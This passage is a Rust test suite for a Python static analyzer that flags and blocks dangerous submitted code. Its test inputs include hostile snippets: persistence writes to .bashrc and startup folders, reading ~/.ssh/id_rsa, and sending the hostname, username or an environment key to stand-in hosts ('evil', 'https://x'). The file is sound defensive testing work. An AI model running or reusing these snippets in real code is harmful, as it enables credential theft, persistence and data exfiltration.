            "import aiohttp\nasync def f():\n    async with aiohttp.ClientSession() as s:\n        await s.get('u')\n",
            "network",
        ),
        (
            "import urllib3\nurllib3.PoolManager().request('GET', 'u')\n",
            "network",
        ),
    ];
    for (src, rule) in cases {
        let r = scan(src);
        assert!(
            r.findings.iter().any(|f| f.rule == rule) && r.is_blocking(),
            "{src}: expected {rule}, got {:#?}",
            r.findings
        );
    }
    // Local data with the same libraries is fine.
    assert_clean(
        "import pandas as pd\nimport numpy as np\ndf = pd.read_csv('data.csv')\na = np.load('a.npy')\nprint(df.describe(), a.sum())\n",
    );
    assert_clean(
        "from sklearn.datasets import fetch_openml\nX, y = fetch_openml('mnist_784', return_X_y=True)\n",
    );
}

#[test]
fn dangerous_modules_used_without_import() {
    for src in [
        "os.system('id')\n",
        "subprocess.run(['id'])\n",
        "requests.get('http://x')\n",
        "socket.socket().connect(('h', 1))\n",
        "def f():\n    return os.popen('id').read()\n",
    ] {
        assert_blocks(src);
    }
    // Bound names are what they are bound to.
    assert_clean(
        "class Os:\n    def system(self, x):\n        return x\nos = Os()\nos.system('id')\n",
    );
    assert_clean("def f(os):\n    return os.system('x')\n");
}

#[test]
fn home_login_and_startup_paths() {
    for src in [
        "import os\nopen(f'/home/{os.getlogin()}/.bashrc', 'a').write('x')\n",
        "import getpass\nprint(open('/home/' + getpass.getuser() + '/notes.txt').read())\n",
        "import os\np = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'x.bat')\nopen(p, 'w').write('x')\n",
        "import os, shutil\nshutil.copy('me.py', os.path.expanduser('~/.config/autostart/me.py'))\n",
        "import os\nopen(os.path.expandvars('%APPDATA%\\\\evil.txt'), 'w')\n",
        "import os\nopen(f'C:\\\\Users\\\\{os.getlogin()}\\\\AppData\\\\Roaming\\\\x.txt', 'w')\n",
        "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()\n",
        "import os\nwith open(os.path.join(os.environ['USERPROFILE'], 'x.txt'), 'w') as f:\n    f.write('x')\n",
    ] {
        assert_blocks(src);
    }
    assert_clean("import getpass\nprint('hello', getpass.getuser())\n");
    assert_clean("import os\nopen(os.path.join('out', 'result.txt'), 'w').write('x')\n");
}

#[test]
fn recon_that_leaves_is_a_warning() {
    let r = scan(
        "import os, socket\nhost = socket.gethostname()\nuser = os.getlogin()\nsocket.create_connection(('evil', 80)).send((host + user).encode())\n",
    );
    assert!(
        r.findings
            .iter()
            .filter(|f| f.rule == "recon-exfiltration" && f.severity == Severity::Warning)
            .count()
            >= 2,
        "{:#?}",
        r.findings
    );
    let r = scan(
        "import os, requests\nrequests.post('https://x', json={'u': os.getlogin(), 'k': os.environ.get('KEY')})\n",
    );
    assert!(r.findings.iter().any(|f| f.rule == "recon-exfiltration"));
    // Alone it stays info.
    let r = scan("import platform, os\nprint(platform.node(), os.getlogin())\n");
    assert!(!r.is_blocking());
    assert!(r.findings.iter().all(|f| f.rule != "recon-exfiltration"));
}

// ------------------------------------------------------------------ labeled classes

/// `tests/corpus/classes/<class>/{malicious,benign}`: samples written for each class of issue
/// 14 (at least 10 per label), kept apart from the snippets in the tests above that the rules
/// were tuned on. A malicious sample must block (and, where the class has its own rule, show
/// it); a benign one must not block.
#[test]
fn labeled_classes() {
    let rules = Rules::default();
    let classes: &[(&str, Option<&str>)] = &[
        ("code_strings", None),
        ("opaque_payloads", Some("opaque-code")),
        ("libraries", None),
        ("no_import", None),
        ("home_paths", None),
        ("recon_flow", Some("recon-exfiltration")),
    ];
    let mut failures = Vec::new();
    for &(class, rule) in classes {
        let bad = corpus(&format!("classes/{class}/malicious"));
        let good = corpus(&format!("classes/{class}/benign"));
        assert!(
            bad.len() >= 10 && good.len() >= 10,
            "{class}: too few samples"
        );
        let (mut hit, mut fp) = (0, 0);
        for path in &bad {
            let r = analyze::python(&std::fs::read_to_string(path).expect("read"), &rules);
            let ok =
                r.is_blocking() && rule.is_none_or(|id| r.findings.iter().any(|f| f.rule == id));
            hit += usize::from(ok);
            if !ok {
                failures.push(format!("MISS {}: {:?}", path.display(), rules_of(&r)));
            }
        }
        for path in &good {
            let r = analyze::python(&std::fs::read_to_string(path).expect("read"), &rules);
            if r.is_blocking() {
                fp += 1;
                failures.push(format!(
                    "FALSE POSITIVE {}: {:?}",
                    path.display(),
                    rules_of(&r)
                ));
            }
        }
        println!(
            "{class}: {hit}/{} caught, {fp}/{} benign flagged",
            bad.len(),
            good.len()
        );
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

// ------------------------------------------------------------------ several files

fn files(list: &[(&str, &str)]) -> Vec<analyze::SourceFile> {
    list.iter()
        .map(|(p, s)| analyze::SourceFile {
            path: p.to_string(),
            source: s.to_string(),
        })
        .collect()
}

fn project(list: &[(&str, &str)]) -> Vec<Report> {
    analyze::python_files(&files(list), &Rules::default(), 2)
}

#[test]
fn sibling_modules_are_attributed_to_the_call_site() {
    let helper = "import os\n\ndef run(cmd):\n    return os.system(cmd)\n\ndef add(a, b):\n    return a + b\n";
    for main in [
        "import helper\nhelper.run('id')\n",
        "from helper import run\nrun('id')\n",
        "from helper import run as go\ngo('id')\n",
        "import helper as h\nf = h.run\nf('id')\n",
        "from . import helper\nhelper.run('id')\n",
        "from .helper import run\nrun('id')\n",
        "from helper import *\nrun('id')\n",
    ] {
        let r = project(&[("main.py", main), ("helper.py", helper)]);
        let f = r[0]
            .findings
            .iter()
            .find(|f| f.rule == "process-exec" && f.line == 2)
            .unwrap_or_else(|| panic!("{main}: {:#?}", r[0].findings));
        assert!(f.message.contains("helper.run"), "{}", f.message);
        assert!(f.message.contains("helper.py:4"), "{}", f.message);
        // The sibling's own finding is still reported in the sibling.
        assert!(r[1].is_blocking());
        // Alone, the importing file is clean.
        assert!(!scan(main).is_blocking(), "{main}");
    }
    // Harmless functions of the sibling stay harmless.
    let r = project(&[
        ("main.py", "import helper\nprint(helper.add(1, 2))\n"),
        ("helper.py", helper),
    ]);
    assert!(!r[0].is_blocking(), "{:#?}", r[0].findings);
}

#[test]
fn packages_methods_top_level_and_chains() {
    // A package module, a method reached through an instance.
    let r = project(&[
        (
            "main.py",
            "from pkg.net import Client\nc = Client()\nc.send(b'x')\n",
        ),
        ("pkg/__init__.py", ""),
        (
            "pkg/net.py",
            "import socket\n\nclass Client:\n    def send(self, data):\n        socket.create_connection(('h', 1)).send(data)\n",
        ),
    ]);
    assert!(
        r[0].findings
            .iter()
            .any(|f| f.rule == "network" && f.line == 3),
        "{:#?}",
        r[0].findings
    );
    // Top-level code runs on import: the import is reported.
    let r = project(&[
        ("main.py", "import payload\nprint('hi')\n"),
        ("payload.py", "import os\nos.system('id')\n"),
    ]);
    assert!(
        r[0].findings
            .iter()
            .any(|f| f.rule == "process-exec" && f.line == 1),
        "{:#?}",
        r[0].findings
    );
    // main -> a -> b: one round per link.
    let r = project(&[
        ("main.py", "import a\na.go()\n"),
        ("a.py", "import b\n\ndef go():\n    b.deep()\n"),
        (
            "b.py",
            "import subprocess\n\ndef deep():\n    subprocess.run(['id'])\n",
        ),
    ]);
    assert!(
        r[0].findings
            .iter()
            .any(|f| f.rule == "process-exec" && f.line == 2),
        "{:#?}",
        r[0].findings
    );
    assert!(
        r[1].findings
            .iter()
            .any(|f| f.rule == "process-exec" && f.line == 4)
    );
    // Files without local imports are analyzed once, as alone.
    let r = project(&[("x.py", "print(1)\n"), ("y.py", "eval(input())\n")]);
    assert!(!r[0].is_blocking() && r[1].is_blocking());
}

/// `tests/corpus/classes/multi_file/{malicious,benign}/<case>/`: each case is one submission.
/// In a malicious case `main.py` blocks only through what it imports (alone it is clean); in a
/// benign case no file of the submission that `main.py` reaches makes `main.py` block.
#[test]
fn labeled_multi_file_submissions() {
    fn read_case(dir: &Path) -> Vec<analyze::SourceFile> {
        let mut out = Vec::new();
        let mut stack = vec![dir.to_path_buf()];
        while let Some(d) = stack.pop() {
            for e in std::fs::read_dir(&d).expect("read case").flatten() {
                let p = e.path();
                if p.is_dir() {
                    stack.push(p);
                } else if p.extension().is_some_and(|x| x == "py") {
                    let rel = p
                        .strip_prefix(dir)
                        .expect("inside")
                        .to_string_lossy()
                        .into_owned();
                    out.push(analyze::SourceFile {
                        path: rel,
                        source: std::fs::read_to_string(&p).expect("read"),
                    });
                }
            }
        }
        out.sort_by(|a, b| a.path.cmp(&b.path));
        out
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus/classes/multi_file");
    let mut failures = Vec::new();
    for (label, want) in [("malicious", true), ("benign", false)] {
        let mut cases: Vec<PathBuf> = std::fs::read_dir(root.join(label))
            .expect("cases")
            .flatten()
            .map(|e| e.path())
            .collect();
        cases.sort();
        assert!(cases.len() >= 10, "{label}: too few cases");
        for case in cases {
            let fs = read_case(&case);
            let main = fs
                .iter()
                .position(|f| f.path == "main.py")
                .expect("main.py");
            let reports = analyze::python_files(&fs, &Rules::default(), 2);
            let blocks = reports[main].is_blocking();
            let alone = scan(&fs[main].source).is_blocking();
            if blocks != want || alone {
                failures.push(format!(
                    "{}: blocks {blocks}, alone {alone}: {:?}",
                    case.display(),
                    rules_of(&reports[main])
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{failures:#?}");
}

#[test]
fn code_strings_cannot_multiply_the_work() {
    // One constant executed from many places is read once (and is clean here).
    let body = "x = 1\n".repeat(500);
    let mut src = format!("s = {body:?}\n");
    for _ in 0..2000 {
        src.push_str("exec(s)\n");
    }
    let r = scan(&src);
    assert!(!r.is_blocking(), "{:?}", rules_of(&r));
    // Many distinct folded strings (8 alternatives per call): past the budget (four times the
    // file, at least 1 MiB) a code string is reported instead of read.
    let mut src = String::new();
    for k in 0..8 {
        src.push_str(&format!("p{k} = {:?}\n", format!("{body}z = {k}\n")));
    }
    src.push_str("for v in (p0, p1, p2, p3, p4, p5, p6, p7):\n");
    for i in 0..200 {
        src.push_str(&format!("    exec(f'{{v}}\\ny{i} = 1')\n"));
    }
    let r = scan(&src);
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule == "dynamic-code" && f.message.contains("too much code")),
        "budget not enforced: {:?}",
        rules_of(&r)
    );
}

#[test]
fn code_strings_see_the_names_of_the_code_that_runs_them() {
    for src in [
        "import os as x\nexec(\"x.system('id')\")\n",
        "import subprocess as sp\ndef f():\n    eval(\"sp.run(['id'])\")\n",
        "import socket\nconnect = socket.create_connection\nexec(\"connect(('h', 1))\")\n",
        "import os as x\nimport timeit\ntimeit.timeit(\"x.popen('id')\", globals=globals())\n",
    ] {
        assert_blocks(src);
    }
    // A new interpreter (`python -c`) sees none of them; names that are harmless stay so.
    assert_clean("import math as m\nprint(eval('m.sqrt(2)'))\n");
}

/// Every file the analyzer is tested on (`tests/corpus/**/*.py`, and the fuzz corpus
/// `fuzz/corpus/analyze/*`), analyzed with both stances, plus every multi-file case as one
/// submission: the findings must equal the stored expectation
/// `tests/analyze_expected/findings.txt` byte for byte. Performance work on the analyzer
/// cannot change a result silently; a deliberate change regenerates the file with
/// `RUNCELL_UPDATE_EXPECTED=1 cargo test --test analyze findings_match_the_stored_expectation`
/// and the diff is reviewed with the change.
#[test]
fn findings_match_the_stored_expectation() {
    use std::fmt::Write as _;
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, out);
            } else {
                out.push(p);
            }
        }
    }
    let mut files = Vec::new();
    walk(&root.join("tests/corpus"), &mut files);
    files.retain(|p| p.extension().is_some_and(|x| x == "py"));
    walk(&root.join("fuzz/corpus/analyze"), &mut files);
    files.sort();
    assert!(files.len() > 1500, "corpus missing: {} files", files.len());
    let (default, strict) = (Rules::default(), Rules::strict());
    let render = |out: &mut String, label: &str, r: &Report| {
        for f in &r.findings {
            let _ = writeln!(
                out,
                "{label}\t{}\t{:?}\t{}:{}-{}:{}\t{}\t{:?}\t{:?}",
                f.rule,
                f.severity,
                f.line,
                f.column,
                f.end_line,
                f.end_column,
                f.category,
                f.message,
                f.snippet
            );
        }
    };
    let mut out = String::new();
    for p in &files {
        let rel = p.strip_prefix(root).unwrap_or(p).to_string_lossy();
        // Fuzz inputs need not be UTF-8; the analyzer only takes text.
        let Ok(src) = String::from_utf8(std::fs::read(p).expect("read corpus file")) else {
            continue;
        };
        let _ = writeln!(out, "# {rel}");
        render(&mut out, "default", &analyze::python(&src, &default));
        render(&mut out, "strict", &analyze::python(&src, &strict));
    }
    let multi = root.join("tests/corpus/classes/multi_file");
    let mut cases = Vec::new();
    for label in ["malicious", "benign"] {
        for e in std::fs::read_dir(multi.join(label))
            .expect("cases")
            .flatten()
        {
            cases.push(e.path());
        }
    }
    cases.sort();
    for case in cases {
        let mut paths = Vec::new();
        walk(&case, &mut paths);
        paths.retain(|p| p.extension().is_some_and(|x| x == "py"));
        paths.sort();
        let sources: Vec<analyze::SourceFile> = paths
            .iter()
            .map(|p| analyze::SourceFile {
                path: p
                    .strip_prefix(&case)
                    .expect("inside")
                    .to_string_lossy()
                    .into_owned(),
                source: std::fs::read_to_string(p).expect("read"),
            })
            .collect();
        let reports = analyze::python_files(&sources, &default, 2);
        for (f, r) in sources.iter().zip(&reports) {
            let rel = case.strip_prefix(root).unwrap_or(&case).to_string_lossy();
            let _ = writeln!(out, "# submission {rel} :: {}", f.path);
            render(&mut out, "files", r);
        }
    }
    let expected_path = root.join("tests/analyze_expected/findings.txt");
    if std::env::var_os("RUNCELL_UPDATE_EXPECTED").is_some() {
        std::fs::create_dir_all(expected_path.parent().expect("parent")).expect("mkdir");
        std::fs::write(&expected_path, &out).expect("write expectation");
        return;
    }
    let expected = std::fs::read_to_string(&expected_path)
        .unwrap_or_else(|e| panic!("{}: {e}", expected_path.display()));
    if expected != out {
        let first = expected
            .lines()
            .zip(out.lines())
            .position(|(a, b)| a != b)
            .unwrap_or(expected.lines().count().min(out.lines().count()));
        let context = |s: &str| {
            s.lines()
                .skip(first.saturating_sub(3))
                .take(8)
                .collect::<Vec<_>>()
                .join("\n")
        };
        panic!(
            "findings differ from {} at line {}:\n--- expected\n{}\n--- got\n{}",
            expected_path.display(),
            first + 1,
            context(&expected),
            context(&out)
        );
    }
}
